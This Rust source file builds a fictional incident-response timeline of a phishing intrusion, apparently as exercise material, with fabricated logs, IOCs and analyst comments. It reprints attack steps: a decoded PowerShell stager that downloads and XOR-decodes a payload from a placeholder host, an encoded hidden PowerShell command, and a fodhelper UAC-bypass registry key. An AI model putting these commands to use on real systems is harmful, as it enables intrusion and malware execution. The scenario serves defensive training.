//! 21 September: the mail, the click, the first code that ran.
//! What made it stay is in `persistence`.

use super::iocs::{BEACON, LOADER, LOOKALIKE, TURNED_NAME};
use super::script::*;

const EDGE: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36 Edg/140.0.0.0";
const BEACON_AGENT: &str = "Mozilla/5.0 (Windows NT 10.0; PortSync 2.1)";

pub fn events() -> Vec<Told> {
    vec![
        at("09-21 09:02:17.004 +02:00", LEGITIMATE, "Vulnerability scan of the office networks begins")
            .on(&["EDI-GW-01", "FW-HAM-EDGE"])
            .source("Firewall")
            .tags("scan,known")
            .says("Quarterly scan from `10.40.3.3`, announced in change **CHG-20417**. Explains the port sweep in the firewall log; *not* the attacker.")
            .firewall("fw-ham-edge", "10.40.3.3", "10.40.5.12", 443, "allow", (4_110, 2_208)),
        at("09-21 13:31:08.412 +02:00", INITIAL_ACCESS, "Phishing mail delivered to 14 mailboxes of the documentation desks")
            .on(&["t.oyelaran"])
            .ioc(&["customs@manifest-clearance.example", LOOKALIKE, "manifest-clearance.example"])
            .tags("phishing,t1566.002")
            .color(RED)
            .flag()
            .key()
            .source("Mail gateway")
            .says("Subject **\"Hold: B/L 4471902 needs release before cut-off\"**. The display name is that of a real customs broker, the sender is not.\n\n| Check | Result |\n|---|---|\n| SPF | pass (attacker's own domain) |\n| DKIM | pass |\n| DMARC | none published |\n| Reputation | domain registered 12 September |\n\nThe reply address is on a look-alike of our customer's domain, see the IOC: it holds an invisible character.")
            .raw("2026-09-21T11:31:08Z mx2 smtpd: 4Xq7Lp2: from=<customs@manifest-clearance.example>, to=<documentation-hou@brackwater.example>, size=48211, nrcpt=14, spf=pass, dkim=pass, dmarc=none, score=3.1/7.0, action=deliver")
            .comment(2, "Gateway scored it 3.1 of 7. Ask the customer for the rule set; *brand in display name* alone should give 2 points."),
        at("09-21 13:31:09.871 +02:00", INITIAL_ACCESS, "Second bait in the same mail: attachment with a turned-around name")
            .on(&["t.oyelaran"])
            .ioc(&[TURNED_NAME])
            .tags("phishing,bidi,t1036.002")
            .source("Mail gateway")
            .says(format!("The attachment shows as a PDF, but is a program: `{TURNED_NAME}`. The gateway removed it from 13 of 14 mails; one mailbox is on an exception list (ticket from 2023)."))
            .raw(format!("2026-09-21T11:31:09Z mx2 milter: 4Xq7Lp2: attachment \"{TURNED_NAME}\" type=PE32+ verdict=strip mailboxes=13 exempt=1")),
        at("09-21 06:58:40.220 -05:00", INITIAL_ACCESS, "User opens the mail in the web client")
            .on(&["t.oyelaran", "WKS-HOU-117"])
            .tags("phishing")
            .source("Mail audit")
            .raw(r#"{"CreationTime":"2026-09-21T11:58:40","Operation":"MailItemsAccessed","UserId":"t.oyelaran@brackwater.example","ClientIP":"10.44.12.117","ClientInfoString":"Client=OWA;Action=ViaProxy"}"#),
        at("09-21 07:01:13.318 -05:00", INITIAL_ACCESS, "Click on the link in the mail, landing page loaded")
            .on(&["WKS-HOU-117", "t.oyelaran"])
            .ioc(&["manifest-clearance.example", "198.51.100.140"])
            .tags("phishing,t1204.001")
            .key()
            .says("First request to the phishing server. The page checks the browser's language and refuses everything but `en-US`, `de-DE` and `nl-NL`.")
            .proxy("10.44.12.117", "t.oyelaran", "GET https://manifest-clearance.example/bl?id=4471902", 200, 18_204, EDGE),
        at("09-21 07:01:44.902 -05:00", INITIAL_ACCESS, "BL_4471902.zip downloaded")
            .on(&["WKS-HOU-117"])
            .ioc(&["https://manifest-clearance.example/dl/BL_4471902.zip", "BL_4471902.zip", "7b7631e7ad99d12f099031cec08e1cdb"])
            .tags("phishing,t1566.002")
            .color(RED)
            .key()
            .says("1.3 MB, passed the proxy's scanner because the archive is encrypted. The password is in the mail: `2109`.")
            .proxy("10.44.12.117", "t.oyelaran", "GET https://manifest-clearance.example/dl/BL_4471902.zip", 200, 1_364_112, EDGE),
        at("09-21 07:03:02.115 -05:00", EXECUTION, "Archive unpacked to Downloads")
            .on(&["WKS-HOU-117"])
            .ioc(&["BL_4471902.zip"])
            .tags("phishing")
            .sysmon(11, "WKS-HOU-117", &[("Image", r"C:\Windows\explorer.exe"), ("TargetFilename", r"C:\Users\t.oyelaran\Downloads\BL_4471902\BL_4471902.pdf.lnk"), ("User", r"BRACKWATER\t.oyelaran")]),
        at("09-21 07:03:29.640 -05:00", EXECUTION, "BL_4471902.pdf.lnk started by the user")
            .on(&["WKS-HOU-117", "t.oyelaran"])
            .ioc(&["BL_4471902.pdf.lnk", "46872fa6f86c2e3e010db7f53cab16de"])
            .tags("t1204.002")
            .color(RED)
            .flag()
            .key()
            .says("The link file starts `cmd.exe`, which starts the signed `port_sync.exe` from the same folder and opens the decoy PDF.")
            .sysmon(1, "WKS-HOU-117", &[
                ("Image", r"C:\Windows\System32\cmd.exe"),
                ("CommandLine", r#"cmd.exe /c start "" .\port_sync.exe & start "" .\BL_4471902.pdf"#),
                ("ParentImage", r"C:\Windows\explorer.exe"),
                ("User", r"BRACKWATER\t.oyelaran"),
                ("IntegrityLevel", "Medium"),
            ]),
        at("09-21 07:03:30.077 -05:00", EXECUTION, "port_sync.exe loads msvcp_sync.dll from its own folder")
            .on(&["WKS-HOU-117"])
            .ioc(&[LOADER])
            .tags("t1574.002,sideloading")
            .color(ORANGE)
            .key()
            .follows()
            .says("DLL side-loading. The program is genuine and signed (file synchronisation of a terminal operator); the library beside it is not.\n\n```text\nport_sync.exe      signed, valid, 2024-02\nmsvcp_sync.dll     unsigned, 412 kB, compiled 2026-09-18\ncrypt.bin          encrypted payload, 288 kB\n```")
            .sysmon(7, "WKS-HOU-117", &[
                ("Image", r"C:\Users\t.oyelaran\Downloads\BL_4471902\port_sync.exe"),
                ("ImageLoaded", r"C:\Users\t.oyelaran\Downloads\BL_4471902\msvcp_sync.dll"),
                ("Hashes", "SHA256=D56AB2C9056923FC105A7FA5F2FCB426E0CBB7CA40DBC44BD6FBDB13DAEC2706"),
                ("Signed", "false"),
            ]),
        at("09-21 07:03:30.590 -05:00", DEFENSE_EVASION, "Loader removes the hooks of the endpoint agent from ntdll.dll")
            .on(&["WKS-HOU-117"])
            .tags("t1562.001")
            .says("A fresh copy of `ntdll.dll` is mapped from disk over the loaded one. Seen in the memory image, no log.")
            .source("Memory image"),
        at("09-21 07:03:31.344 -05:00", COMMAND_AND_CONTROL, "First beacon to 203.0.113.61")
            .on(&["WKS-HOU-117"])
            .ioc(&["203.0.113.61", "cdn.portsync-assets.example", "https://cdn.portsync-assets.example/api/v2/tiles", BEACON])
            .tags("c2,t1071.001")
            .color(PURPLE)
            .flag()
            .key()
            .says("Interval 60 s with 37 % jitter. From here on the attacker has hands on the keyboard within **11 minutes**.")
            .proxy("10.44.12.117", "t.oyelaran", "POST https://cdn.portsync-assets.example/api/v2/tiles", 200, 512, BEACON_AGENT)
            .comment(3, "Confirmed in the memory image: config block at `0x1f0000`, key `5c 1e 90 77`."),
        at("09-21 07:03:31.900 -05:00", DEFENSE_EVASION, "Decoy PDF opened so that the user suspects nothing")
            .on(&["WKS-HOU-117"])
            .ioc(&["67ac7cc165b0cbbc648717d1027177e0"])
            .tags("t1036")
            .source("Sysmon"),
        at("09-21 07:05:10.008 -05:00", UNSPECIFIED, "User calls the help desk: \"the bill of lading is for another vessel\"")
            .on(&["t.oyelaran", "d.marchetti"])
            .source("Ticket INC-88231")
            .tags("human")
            .says("The help desk closed the ticket as *wrong recipient*. This was the first chance to stop it.\n\n> User says PDF opened fine, content not for his desk. Told him to delete the mail.")
            .comment(2, "Lesson for the report, not for blame."),
        at("09-21 07:12:55.731 -05:00", INITIAL_ACCESS, "Same archive copied to the team share and opened by a colleague")
            .on(&["WKS-HOU-122", "SRV-FILE-HAM"])
            .ioc(&["BL_4471902.zip"])
            .tags("phishing")
            .says("The user put the archive on `\\\\SRV-FILE-HAM\\docs-hou\\inbox` for a second opinion.")
            .security(5145, "SRV-FILE-HAM", &[("SubjectUserName", "t.oyelaran"), ("ShareName", r"\\*\docs-hou"), ("RelativeTargetName", r"inbox\BL_4471902.zip"), ("AccessMask", "0x2"), ("IpAddress", "10.44.12.117")]),
        at("09-21 07:14:20.450 -05:00", EXECUTION, "port_sync.exe runs on the second workstation")
            .on(&["WKS-HOU-122"])
            .ioc(&[LOADER])
            .tags("t1574.002,sideloading")
            .edr("WKS-HOU-122", "medium", "Unsigned library beside a signed program", r"C:\Users\p.ramos\Downloads\BL_4471902\port_sync.exe", "port_sync.exe")
            .comment(3, "The agent saw it and only wrote it down: policy *monitor only*. Nobody read the console until 29 September."),
        at("09-21 07:14:21.102 -05:00", COMMAND_AND_CONTROL, "Second workstation beacons to 203.0.113.61")
            .on(&["WKS-HOU-122"])
            .ioc(&["203.0.113.61"])
            .tags("c2")
            .color(PURPLE)
            .proxy("10.44.12.122", "p.ramos", "POST https://cdn.portsync-assets.example/api/v2/tiles", 200, 512, BEACON_AGENT),
        at("09-21 07:15:02.660 -05:00", EXECUTION, "Encoded PowerShell fetches the second stage")
            .on(&["WKS-HOU-117"])
            .ioc(&["https://paste.driftnet.example/raw/9fK2xQ", "http://192.0.2.201:8443/s/agent64.bin"])
            .tags("t1059.001,obfuscated")
            .color(ORANGE)
            .flag()
            .key()
            .says("Decoded:\n\n```powershell\n$u = 'https://paste.driftnet[.]example/raw/9fK2xQ'\n$b = [Convert]::FromBase64String((iwr $u -UseBasicParsing).Content)\nfor ($i = 0; $i -lt $b.Length; $i++) { $b[$i] = $b[$i] -bxor 0x5c }\n# then VirtualAlloc, copy, CreateThread\n```\n\nThe script is 11 kB; the full text is in the evidence `WKS-HOU-117_4104.txt`.")
            .winlog("Microsoft-Windows-PowerShell/Operational", 4104, "WKS-HOU-117", &[("MessageNumber", "1"), ("MessageTotal", "1"), ("ScriptBlockText", "powershell -nop -w hidden -enc JAB1ACAAPQAgACcAaAB0AHQAcABzADoALwAvAHAAYQBzAHQAZQAuAGQAcgBpAGYAdABuAGUAdA")]),
        at("09-21 07:15:04.018 -05:00", COMMAND_AND_CONTROL, "Second stage downloaded from 192.0.2.201:8443")
            .on(&["WKS-HOU-117", "FW-HOU-EDGE"])
            .ioc(&["192.0.2.201", "http://192.0.2.201:8443/s/agent64.bin"])
            .tags("staging,t1105")
            .says("Straight to the address, past the proxy: the Houston firewall still has the *temporary* rule 118 that allows it.")
            .firewall("fw-hou-edge", "10.44.12.117", "192.0.2.201", 8443, "allow", (1_204, 734_208)),
        at("09-21 07:16:40.250 -05:00", PRIVILEGE_ESCALATION, "Auto-elevation through fodhelper")
            .on(&["WKS-HOU-117"])
            .tags("t1548.002,uac")
            .says("The value `DelegateExecute` is created empty beside the command, then removed 4 seconds later.")
            .sysmon(13, "WKS-HOU-117", &[("Image", r"C:\Windows\System32\reg.exe"), ("TargetObject", r"HKU\S-1-5-21-2210\Software\Classes\ms-settings\Shell\Open\command\(Default)"), ("Details", r"C:\ProgramData\PortSync\port_sync.exe /e")]),
        at("09-21 07:16:44.813 -05:00", PRIVILEGE_ESCALATION, "port_sync.exe runs with high integrity")
            .on(&["WKS-HOU-117"])
            .tags("t1548.002")
            .follows()
            .sysmon(1, "WKS-HOU-117", &[("Image", r"C:\ProgramData\PortSync\port_sync.exe"), ("ParentImage", r"C:\Windows\System32\fodhelper.exe"), ("IntegrityLevel", "High"), ("User", r"BRACKWATER\t.oyelaran")]),
        at("09-21 14:40:31.000 +02:00", INITIAL_ACCESS, "Login page of the VPN tried with the names of 14 recipients")
            .on(&["VPN-HAM", "t.oyelaran"])
            .ioc(&["192.0.2.77"])
            .tags("t1110.003,vpn")
            .source("VPN")
            .says("Password spraying: 14 names, 2 passwords, 28 failures in 9 minutes.")
            .raw("Sep 21 12:40:31 vpn-ham sslvpnd[811]: login failed user=\"t.oyelaran\" src=192.0.2.77 profile=\"contractors\" reason=\"bad password\" (1/28)"),
    ]
}
